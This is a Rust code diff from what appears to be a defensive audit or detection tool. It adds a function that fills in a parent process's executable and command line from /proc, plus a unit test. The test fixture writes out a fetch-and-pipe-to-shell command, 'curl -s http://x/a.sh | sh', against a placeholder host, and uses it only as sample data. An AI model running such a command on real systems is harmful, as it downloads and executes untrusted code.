@@ -363,9 +363,81 @@ pub fn container_of_pid(proc_root: &Path, pids: &[i64]) -> Option<String> {
     })
 }
 
+/// Fills `process.parent.executable|name|command_line` from `/proc/<ppid>` while the parent
+/// still runs (it usually does: the shell waits for the command it started). Audit records
+/// name only the parent's pid, and rules about what spawned a process (Sigma's
+/// `ParentImage`) need its executable. Nothing is set when the parent has gone.
+pub fn add_parent(event: &mut Map<String, Value>, proc_root: &Path) {
+    let Some(parent) = event
+        .get_mut("process")
+        .and_then(|p| p.get_mut("parent"))
+        .and_then(Value::as_object_mut)
+    else {
+        return;
+    };
+    let Some(ppid) = parent.get("pid").and_then(Value::as_i64) else {
+        return;
+    };
+    let dir = proc_root.join(ppid.to_string());
+    if let Ok(exe) = std::fs::read_link(dir.join("exe")) {
+        let exe = exe
+            .to_string_lossy()
+            .trim_end_matches(" (deleted)")
+            .to_string();
+        if let Some(name) = exe.rsplit('/').next().filter(|n| !n.is_empty()) {
+            parent.insert("name".into(), json!(name));
+        }
+        parent.insert("executable".into(), json!(exe));
+    }
+    if let Ok(raw) = std::fs::read(dir.join("cmdline")) {
+        let args: Vec<String> = raw
+            .split(|&b| b == 0)
+            .filter(|a| !a.is_empty())
+            .take(64)
+            .map(|a| String::from_utf8_lossy(a).into_owned())
+            .collect();
+        if !args.is_empty() {
+            let line = args.join(" ");
+            let cut = line
+                .char_indices()
+                .nth(4_096)
+                .map_or(line.len(), |(i, _)| i);
+            parent.insert("command_line".into(), json!(&line[..cut]));
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn the_parent_executable_and_command_line_come_from_proc() {
+        let root = tempfile::tempdir().expect("tempdir");
+        let dir = root.path().join("100");
+        std::fs::create_dir_all(&dir).expect("mkdir");
+        std::os::unix::fs::symlink("/usr/bin/dash", dir.join("exe")).expect("symlink");
+        std::fs::write(dir.join("cmdline"), b"sh\0-c\0curl -s http://x/a.sh | sh\0")
+            .expect("write");
+        let mut event = serde_json::from_value::<Map<String, Value>>(
+            json!({"process": {"pid": 101, "parent": {"pid": 100}}}),
+        )
+        .expect("map");
+        add_parent(&mut event, root.path());
+        assert_eq!(event["process"]["parent"]["executable"], "/usr/bin/dash");
+        assert_eq!(event["process"]["parent"]["name"], "dash");
+        assert_eq!(
+            event["process"]["parent"]["command_line"],
+            "sh -c curl -s http://x/a.sh | sh"
+        );
+        // A parent that has exited leaves the event as it was.
+        let mut gone = serde_json::from_value::<Map<String, Value>>(
+            json!({"process": {"pid": 7, "parent": {"pid": 6}}}),
+        )
+        .expect("map");
+        add_parent(&mut gone, root.path());
+        assert_eq!(gone["process"]["parent"], json!({"pid": 6}));
+    }
 
     const EXEC: &str = r#"type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 ppid=100 pid=101 auid=4294967295 uid=0 gid=0 euid=0 comm="sleep" exe="/bin/busybox" key="crowsnest-exec"
 type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="sh" a1="-c" a2=6563686F206869
